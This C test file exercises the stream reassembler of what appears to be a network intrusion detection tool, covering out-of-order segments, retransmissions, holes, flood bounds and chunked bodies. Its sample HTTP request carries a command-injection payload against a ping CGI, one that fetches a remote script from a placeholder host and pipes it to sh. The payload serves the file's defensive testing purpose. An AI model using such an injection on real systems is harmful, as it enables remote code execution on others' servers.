// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/*
 * The stream reassembler alone (userspace/payload/stream_reassembly.c): segments in
 * any order become one scan of the whole request; retransmissions with other bytes
 * keep the first copy and are counted; holes scan what precedes them; bytes beyond the
 * snap length split runs; every bound holds under a flood of half-open and gap-filled
 * streams, with every eviction counted.
 */
#include <stdlib.h>
#include <string.h>

#include "payload/stream_reassembly.h"
#include "../support/test.h"

#define DEPTH 4096

static const char REQUEST[] = "GET /cgi-bin/ping.cgi?host=1.1.1.1;wget+http://x/x.sh+|+sh "
			      "HTTP/1.1\r\nHost: 198.18.0.1\r\nUser-Agent: t\r\n\r\n";

struct scans {
	int count;
	char last[DEPTH + 1];
	uint32_t last_offset;
	enum stream_scan_reason last_reason;
	size_t total;
};

static void collect(void *user, const struct stream_chunk *c)
{
	struct scans *s = user;

	s->count++;
	s->total += c->len;
	memcpy(s->last, c->data, c->len);
	s->last[c->len] = '\0';
	s->last_offset = c->offset;
	s->last_reason = c->reason;
}

static struct stream_limits limits(void)
{
	struct stream_limits l = { .depth = DEPTH, .max_segments = 4096, .max_streams = 64,
				   .max_bytes = 1 << 20, .idle_ns = 10ull * 1000000000 };
	return l;
}

/* Feed [off, off + len) of payload as one segment (flags: EW_TCP_* besides ACK). */
static int feed(struct stream_table *t, uint64_t flow_seq, uint8_t dir, const char *payload,
		uint32_t off, uint32_t len, uint32_t wire_len, uint8_t flags, struct scans *s)
{
	struct sample_header hdr = { .flow_seq = flow_seq, .dir = dir, .cap_len = (uint16_t)len,
				     .payload_len = wire_len ? wire_len : len, .stream_off = off,
				     .tcp_flags = EW_TCP_ACK | flags, .reason = EW_SAMPLE_STREAM };
	struct stream_segment seg = { .hdr = &hdr, .payload = (const uint8_t *)payload + off,
				      .now_ns = 1000 };

	return stream_table_add(t, &seg, collect, s);
}

/* Cut REQUEST into size-byte segments, fed in order or with neighbours swapped. */
static void split(struct test_case *t, uint32_t size, int swap)
{
	struct stream_limits l = limits();
	struct stream_table *st;
	struct scans s = { 0 };
	uint32_t len = sizeof(REQUEST) - 1, n = (len + size - 1) / size, i;

	CHECK(t, !stream_table_new(&st, &l), "table");
	for (i = 0; i < n; i++) {
		uint32_t k = swap ? (i % 2 ? i - 1 : (i + 1 < n ? i + 1 : i)) : i;
		uint32_t off = k * size, seg = off + size > len ? len - off : size;

		feed(st, 7, EW_DIR_TO_SERVER, REQUEST, off, seg, 0, 0, &s);
		EXPECT(t, i == n - 1 || s.count == 0, "scanned before the request was whole (%u)",
		       i);
	}
	EXPECT(t, s.count == 1, "%d scans, want 1 (the whole request, at its end)", s.count);
	EXPECT(t, !strcmp(s.last, REQUEST), "scanned '%s'", s.last);
	EXPECT(t, s.last_reason == STREAM_SCAN_HTTP, "reason %d", s.last_reason);
	stream_table_flow_end(st, 7, collect, &s);
	EXPECT(t, s.count == 1, "rescanned at the flow's end");
	stream_table_free(st);
}

static void test_split_1_in_order(struct test_case *t) { split(t, 1, 0); }
static void test_split_7_swapped(struct test_case *t) { split(t, 7, 1); }
static void test_split_24_swapped(struct test_case *t) { split(t, 24, 1); }

/* One segment holding the request: scanned at once, as without reassembly. */
static void test_one_segment_at_once(struct test_case *t)
{
	struct stream_limits l = limits();
	struct stream_table *st;
	struct scans s = { 0 };

	CHECK(t, !stream_table_new(&st, &l), "table");
	feed(st, 1, 0, REQUEST, 0, sizeof(REQUEST) - 1, 0, EW_TCP_PSH, &s);
	EXPECT(t, s.count == 1 && !strcmp(s.last, REQUEST), "%d scans", s.count);
	stream_table_free(st);
}

/* A retransmission overlapping with other bytes: the first copy wins, counted. */
static void test_overlap_first_wins(struct test_case *t)
{
	struct stream_limits l = limits();
	struct stream_table *st;
	struct scans s = { 0 };
	struct stream_stats stats;
	char other[sizeof(REQUEST)];
	uint32_t len = sizeof(REQUEST) - 1;

	memcpy(other, REQUEST, sizeof(REQUEST));
	memset(other + 10, 'Z', 20);
	CHECK(t, !stream_table_new(&st, &l), "table");
	EXPECT(t, feed(st, 1, 0, REQUEST, 0, 40, 0, 0, &s) == 0, "first copy is no conflict");
	EXPECT(t, feed(st, 1, 0, other, 0, 40, 0, 0, &s) == 1, "conflict not reported");
	EXPECT(t, feed(st, 1, 0, REQUEST, 0, 40, 0, 0, &s) == 0, "a same-bytes copy conflicts");
	feed(st, 1, 0, REQUEST, 40, len - 40, 0, 0, &s);
	EXPECT(t, s.count == 1 && !strcmp(s.last, REQUEST), "scanned '%s'", s.last);
	stream_table_get_stats(st, &stats);
	EXPECT(t, stats.overlap_conflicts == 1 && stats.conflict_bytes == 20,
	       "conflicts %llu bytes %llu", (unsigned long long)stats.overlap_conflicts,
	       (unsigned long long)stats.conflict_bytes);
	EXPECT(t, stats.duplicate_bytes == 60, "duplicates %llu",
	       (unsigned long long)stats.duplicate_bytes);
	stream_table_free(st);
}

/* A hole: only what precedes it is scanned (at the flow's end); the rest is a gap. */
static void test_hole(struct test_case *t)
{
	struct stream_limits l = limits();
	struct stream_table *st;
	struct scans s = { 0 };
	struct stream_stats stats;
	uint32_t len = sizeof(REQUEST) - 1;

	CHECK(t, !stream_table_new(&st, &l), "table");
	feed(st, 1, 0, REQUEST, 0, 30, 0, 0, &s);
	feed(st, 1, 0, REQUEST, 40, len - 40, 0, EW_TCP_PSH, &s);
	EXPECT(t, s.count == 0, "scanned across a hole");
	stream_table_flow_end(st, 1, collect, &s);
	EXPECT(t, s.count == 1 && s.total == 30 && !strncmp(s.last, REQUEST, 30),
	       "%d scans of %zu bytes", s.count, s.total);
	EXPECT(t, s.last_reason == STREAM_SCAN_FLOW_END, "reason %d", s.last_reason);
	stream_table_get_stats(st, &stats);
	EXPECT(t, stats.gaps == 1 && stats.gap_bytes == len - 40, "gaps %llu bytes %llu",
	       (unsigned long long)stats.gaps, (unsigned long long)stats.gap_bytes);
	EXPECT(t, stats.streams == 0 && stats.bytes == 0, "not released");
	stream_table_free(st);
}

/* Bytes beyond the snap length end a run; the next segment starts a new one. */
static void test_snap_hole(struct test_case *t)
{
	struct stream_limits l = limits();
	struct stream_table *st;
	struct scans s = { 0 };
	static char wire[3000];

	memset(wire, 'a', sizeof(wire));
	memcpy(wire + 2000, "echo pwned", 10);
	CHECK(t, !stream_table_new(&st, &l), "table");
	feed(st, 1, 0, wire, 0, 512, 1448, 0, &s);
	EXPECT(t, s.count == 1 && s.total == 512 && s.last_reason == STREAM_SCAN_SNAP_HOLE,
	       "%d scans of %zu bytes, reason %d", s.count, s.total, s.last_reason);
	feed(st, 1, 0, wire, 1448, 1000, 0, EW_TCP_PSH, &s);
	EXPECT(t, s.count == 2 && s.last_offset == 1448 && s.total == 1512,
	       "%d scans, last at %u, %zu bytes", s.count, s.last_offset, s.total);
	stream_table_free(st);
}

/* The window's end: scanned once, buffers freed, later segments ignored. */
static void test_depth(struct test_case *t)
{
	struct stream_limits l = limits();
	struct stream_table *st;
	struct scans s = { 0 };
	struct stream_stats stats;
	static char wire[DEPTH + 100];

	memset(wire, 'b', sizeof(wire));
	CHECK(t, !stream_table_new(&st, &l), "table");
	feed(st, 1, 0, wire, 0, 2048, 0, 0, &s);
	feed(st, 1, 0, wire, 2048, 2100, 0, 0, &s);
	EXPECT(t, s.count == 1 && s.total == DEPTH && s.last_reason == STREAM_SCAN_DEPTH,
	       "%d scans, %zu bytes", s.count, s.total);
	feed(st, 1, 0, wire, 0, 10, 0, EW_TCP_PSH, &s);
	stream_table_get_stats(st, &stats);
	EXPECT(t, s.count == 1 && stats.segments_after_release == 1, "a full window rescanned");
	EXPECT(t, stats.bytes == 0 && stats.bytes_past_depth == 52, "bytes %llu past %llu",
	       (unsigned long long)stats.bytes, (unsigned long long)stats.bytes_past_depth);
	stream_table_free(st);
}

/*
 * A flood of half-open streams (one byte at offset 0, never completed) and gap-filled
 * ones (a byte at the window's end, nothing before): memory stays within the bounds,
 * every eviction is counted, and a real request after the flood is still scanned.
 */
static void test_flood_bounded(struct test_case *t)
{
	struct stream_limits l = { .depth = DEPTH, .max_segments = 8, .max_streams = 100,
				   .max_bytes = 64 * 1024, .idle_ns = 0 };
	struct stream_table *st;
	struct scans s = { 0 };
	struct stream_stats stats;
	static char wire[DEPTH];
	uint64_t flow;

	memset(wire, 'c', sizeof(wire));
	CHECK(t, !stream_table_new(&st, &l), "table");
	for (flow = 1; flow <= 20000; flow++) {
		feed(st, flow, 0, wire, 0, 1, 0, 0, &s);
		feed(st, flow, 1, wire, DEPTH - 1, 1, 0, 0, &s);
		stream_table_get_stats(st, &stats);
		CHECK(t, stats.streams <= l.max_streams && stats.bytes <= l.max_bytes,
		      "flow %llu: %llu streams, %llu bytes", (unsigned long long)flow,
		      (unsigned long long)stats.streams, (unsigned long long)stats.bytes);
	}
	/* one stream, many segments: only max_segments are taken */
	for (flow = 0; flow < 20; flow++)
		feed(st, 99999, 0, wire, (uint32_t)flow, 1, 0, 0, &s);
	stream_table_get_stats(st, &stats);
	EXPECT(t, stats.overflow_segments == 12, "overflow_segments %llu",
	       (unsigned long long)stats.overflow_segments);
	EXPECT(t, stats.overflow_streams + stats.overflow_bytes >= 39000,
	       "evictions %llu + %llu", (unsigned long long)stats.overflow_streams,
	       (unsigned long long)stats.overflow_bytes);
	EXPECT(t, stats.overflow_bytes > 0, "the byte bound never evicted");
	EXPECT(t, stats.streams_high_water <= l.max_streams &&
		  stats.bytes_high_water <= l.max_bytes,
	       "high water %llu streams %llu bytes", (unsigned long long)stats.streams_high_water,
	       (unsigned long long)stats.bytes_high_water);
	s.count = 0;
	feed(st, 123456, 0, REQUEST, 0, sizeof(REQUEST) - 1, 0, 0, &s);
	EXPECT(t, s.count == 1 && !strcmp(s.last, REQUEST), "request after the flood: %d scans",
	       s.count);
	stream_table_free(st);
}

/* A stream with no segment for idle_ns is scanned and released. */
static void test_idle(struct test_case *t)
{
	struct stream_limits l = limits();
	struct stream_table *st;
	struct scans s = { 0 };
	struct stream_stats stats;

	CHECK(t, !stream_table_new(&st, &l), "table");
	feed(st, 1, 0, "echo hello", 0, 10, 0, 0, &s);
	stream_table_expire(st, 1000 + l.idle_ns, collect, &s);
	EXPECT(t, s.count == 0, "expired too early");
	stream_table_expire(st, 1001 + l.idle_ns, collect, &s);
	stream_table_get_stats(st, &stats);
	EXPECT(t, s.count == 1 && s.last_reason == STREAM_SCAN_IDLE && stats.streams == 0,
	       "%d scans, %llu streams", s.count, (unsigned long long)stats.streams);
	stream_table_free(st);
}

/* Two requests on one connection: each scanned from its own first byte, once. */
static void test_two_requests(struct test_case *t)
{
	struct stream_limits l = limits();
	struct stream_table *st;
	struct scans s = { 0 };
	char two[2 * sizeof(REQUEST)];
	uint32_t len = sizeof(REQUEST) - 1;

	memcpy(two, REQUEST, len);
	memcpy(two + len, REQUEST, len + 1);
	CHECK(t, !stream_table_new(&st, &l), "table");
	feed(st, 1, 0, two, 0, len + 5, 0, 0, &s);
	EXPECT(t, s.count == 1 && s.last_offset == 0, "first: %d scans", s.count);
	feed(st, 1, 0, two, len + 5, len - 5, 0, 0, &s);
	EXPECT(t, s.count == 2 && s.last_offset == len && !strcmp(s.last, REQUEST),
	       "second: %d scans at %u", s.count, s.last_offset);
	stream_table_free(st);
}

/* A chunked body: the request ends after its last chunk, wherever the cuts fall. */
static void test_chunked(struct test_case *t)
{
	static const char req[] = "POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
				  "5\r\nhello\r\n6;ext=1\r\n world\r\n0\r\n\r\n";
	struct stream_limits l = limits();
	struct stream_table *st;
	struct scans s = { 0 };
	uint32_t len = sizeof(req) - 1, i;

	CHECK(t, !stream_table_new(&st, &l), "table");
	for (i = 0; i < len; i += 3) {
		feed(st, 1, 0, req, i, i + 3 > len ? len - i : 3, 0, 0, &s);
		EXPECT(t, i + 3 >= len || s.count == 0, "scanned at %u of %u", i, len);
	}
	EXPECT(t, s.count == 1 && !strcmp(s.last, req), "%d scans", s.count);
	stream_table_free(st);
}

int main(void)
{
	test_program = "test_stream_reassembly";
	RUN(test_split_1_in_order);
	RUN(test_split_7_swapped);
	RUN(test_split_24_swapped);
	RUN(test_one_segment_at_once);
	RUN(test_overlap_first_wins);
	RUN(test_hole);
	RUN(test_snap_hole);
	RUN(test_depth);
	RUN(test_flood_bounded);
	RUN(test_idle);
	RUN(test_two_requests);
	RUN(test_chunked);
	return test_summary();
}
